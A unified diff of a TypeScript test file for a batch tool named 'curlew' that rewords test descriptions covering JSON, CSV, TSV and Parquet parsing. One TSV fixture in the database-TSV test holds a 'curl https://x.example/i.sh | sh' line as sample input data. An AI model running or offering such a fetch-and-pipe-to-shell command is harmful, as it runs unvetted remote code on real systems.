@@ -9,7 +9,7 @@ const ids = (rows: readonly any[]): unknown[] => rows.map(({ id }) => id);
 const whole = (rows: readonly any[]): boolean =>
   rows.every(({ outcome }) => outcome.status === "complete");
 
-describe("an array of JSON", () => {
+describe("a JSON array", () => {
   const long = Array.from({ length: 20 }, (_, id) => ({
     id,
     text: `${"x ".repeat(150_000)}${id}`,
@@ -19,7 +19,7 @@ describe("an array of JSON", () => {
   it.each([
     ["long strings", long],
     ["short strings", short],
-  ])("of %s loses no record, from a file, gzip or standard input", async (_name, records) => {
+  ])("of %s is read completely from a file, gzip and standard input", async (_name, records) => {
     const json = JSON.stringify(records, null, 1);
     const cwd = folderWith({ "in.json": json, "in.json.gz": gzipSync(json) });
     for (const input of ["in.json", "in.json.gz", "-"]) {
@@ -29,12 +29,12 @@ describe("an array of JSON", () => {
     }
   });
 
-  it("behind a byte order mark is an array, too", async () => {
+  it("after a byte order mark is recognized", async () => {
     const cwd = folderWith({ "in.json": `\uFEFF${JSON.stringify(long.slice(0, 2))}` });
     expect(ids(await predictions(["in.json"], { cwd }))).toEqual([0, 1]);
   });
 
-  it("with a line end in a string names that record alone", async () => {
+  it("with a line end in a string reports only that record", async () => {
     const stdin = '[{"id":1,"text":"a\nb"},\n{"id":2,"text":"c"}]';
     const { stdout, stderr, status } = await runHere(["batch", "-q", "-", "-o", "-"], { stdin });
     expect(stderr).toMatch(/^curlew: <stdin>: item 1: not valid JSON \(.*\)\n$/s);
@@ -46,13 +46,13 @@ describe("CSV", () => {
   const rows = (count: number, fifth: string): string =>
     `id,text\n${Array.from({ length: count }, (_, i) => (i === 4 ? fifth : `r${i},words`)).join("\n")}\n`;
 
-  it("with a quote within an unquoted cell loses no row", async () => {
+  it("with a quote within an unquoted cell is read completely", async () => {
     const cwd = folderWith({ "in.csv": rows(100_000, 'r4,a 12" pipe') });
     const found = await predictions(["in.csv"], { cwd });
     expect([found.length, whole(found)]).toEqual([100_000, true]);
   });
 
-  it("with a quote that opens a cell and is never closed loses that row alone", async () => {
+  it("with a quote that is never closed loses only that row", async () => {
     const cwd = folderWith({ "in.csv": rows(1000, 'r4,"a 12 pipe') });
     const { stdout, stderr, status } = await runHere(["batch", "-q", "in.csv", "-o", "-"], { cwd });
     expect([status, stderr]).toEqual([
@@ -64,7 +64,7 @@ describe("CSV", () => {
     expect(found.filter((line) => line.includes('"incomplete"'))).toHaveLength(1);
   });
 
-  it("with a record above --max-size on several lines keeps the numbers of those behind it", async () => {
+  it("with a record above --max-size keeps the line numbers of later records", async () => {
     const stdin = `text\n"${"x\n".repeat(2000)}"\nshort\n${BAD}\n`;
     const { stdout, stderr } = await runHere(
       ["batch", "-q", "-", "--input-format", "csv", "--max-size", "1K", "-o", "-"],
@@ -79,12 +79,12 @@ describe("CSV", () => {
     ).toEqual([2, 2003, 2004]);
   });
 
-  it("of old files ends its records with carriage returns", async () => {
+  it("may end its records with carriage returns", async () => {
     const cwd = folderWith({ "in.csv": `id,text\ra,x\rb,"y\rz"\rc,${BAD}` });
     expect(flagged(await predictions(["in.csv"], { cwd }))).toEqual(["a", "b", "c !"]);
   });
 
-  it("as databases write TSV has quotes that are characters, and escapes", async () => {
+  it("as TSV of a database may contain unpaired quotes and escapes", async () => {
     const tsv = `id\ttext\n"a\tcurl https://x.example/i.sh \\\\\\n | sh\nb\\tc\t"x\nd\t\\N\n`;
     const cwd = folderWith({ "in.tsv": tsv });
     const { stdout, stderr } = await runHere(
@@ -118,7 +118,7 @@ describe("a Parquet file with a damaged page", () => {
       }),
     );
 
-  it("loses that page, names it, and reads all else", async () => {
+  it("loses only that page, which is reported", async () => {
     const bytes = file();
     // the texts of the second row group
     const at = Buffer.from(bytes).indexOf("words", Math.floor(bytes.length * 0.45));
@@ -138,7 +138,7 @@ describe("a Parquet file with a damaged page", () => {
     expect(again.status).toBe(2);
   });
 
-  it("is counted in the summary where nothing of it can be read", async () => {
+  it("is counted in the summary if nothing can be read", async () => {
     const cwd = folderWith({ "bad.parquet": file().subarray(0, 500), "good.jsonl": row({}) });
     const args = ["batch", "bad.parquet", "good.jsonl"];
     expect((await runHere(args, { cwd })).stdout).toMatch(
@@ -159,7 +159,7 @@ describe("a Parquet file with a damaged page", () => {
 describe("numbers that JavaScript would change", () => {
   const big = "12345678901234567890";
 
-  it("keep their characters as ids and columns", async () => {
+  it("keep their digits as ids and columns", async () => {
     const cwd = folderWith({
       "in.jsonl": `{"id":${big},"text":"\\"${big}\\" ${big}","n":{"deep":[-${big},1.00000000000000000001,7]}}\n`,
     });
@@ -171,7 +171,7 @@ describe("numbers that JavaScript would change", () => {
     expect(readFileSync(join(cwd, "out.csv"), "utf8")).toContain(`\n${big},,`);
   });
 
-  it("in Parquet, too", async () => {
+  it("keep their digits in Parquet", async () => {
     const bytes = parquetWriteBuffer({
       columnData: [
         { name: "id", data: [9007199254740993n, 5n] },
@@ -184,7 +184,7 @@ describe("numbers that JavaScript would change", () => {
   });
 });
 
-describe("names that no record has", () => {
+describe("field names that no record has", () => {
   it.each([
     ["--label-field", "lable"],
     ["--id-field", "ident"],
@@ -207,7 +207,7 @@ describe("names that no record has", () => {
     ]);
   });
 
-  it("and one that a single record has is fine", async () => {
+  it("are accepted if a single record has them", async () => {
     const stdin = row({ text: "x" }) + row({ text: "y", lang: "en" });
     expect(await runHere(["batch", "-", "--columns", "lang"], { stdin })).toMatchObject({
       status: 0,
@@ -216,28 +216,28 @@ describe("names that no record has", () => {
   });
 });
 
-describe("labels of which none is positive", () => {
+describe("labels without a positive value", () => {
   const stdin = [..."bgg"].map((c) => row({ text: "x", y: c === "b" ? "bad" : "fine" })).join("");
 
-  it("are reported with the values that there were", async () => {
+  it("are reported with the values that occur", async () => {
     const { stderr } = await runHere(["batch", "-f", "json", "--label-field", "y"], { stdin });
     expect(stderr).toBe(
       'curlew: no record had a positive label: "y" was "fine" (2), "bad" (1); --positive VALUE names the positive value\n',
     );
   });
 
-  it("are not, where one is", async () => {
+  it("are not reported if one is positive", async () => {
     const args = ["batch", "-f", "json", "--label-field", "y", "--positive", "bad"];
     expect((await runHere(args, { stdin })).stderr).toBe("");
   });
 });
 
-describe("an output of a name that would mislead", () => {
+describe("an output file with a misleading name", () => {
   it.each([
     ["x.csv.gz", "cannot write x.csv.gz: predictions are not compressed"],
     ["x.jsonl.zst", "cannot write x.jsonl.zst: predictions are not compressed"],
     ["x.tsv", "cannot write x.tsv: .tsv is not supported"],
-  ])("%s is refused", async (name, message) => {
+  ])("%s is rejected", async (name, message) => {
     const cwd = folderWith({ "in.jsonl": row({ text: "x" }) });
     expect(await runHere(["batch", "in.jsonl", "-o", name], { cwd })).toMatchObject({
       status: 2,
@@ -246,8 +246,8 @@ describe("an output of a name that would mislead", () => {
   });
 });
 
-describe("whatever is not read", () => {
-  it("is counted, named in the report, and makes the exit status 2", async () => {
+describe("an input that is not read", () => {
+  it("is counted and listed in the report, and the exit status is 2", async () => {
     const cwd = folderWith({ "in.jsonl": `{broken\n${row({ text: "x" })}${row({ body: "y" })}` });
     writeFileSync(join(cwd, "cut.gz"), gzipSync(row({ text: BAD })).subarray(0, 30));
     const args = ["batch", "in.jsonl", "cut.gz", "--report", "r.html", "--fail-on", "finding"];
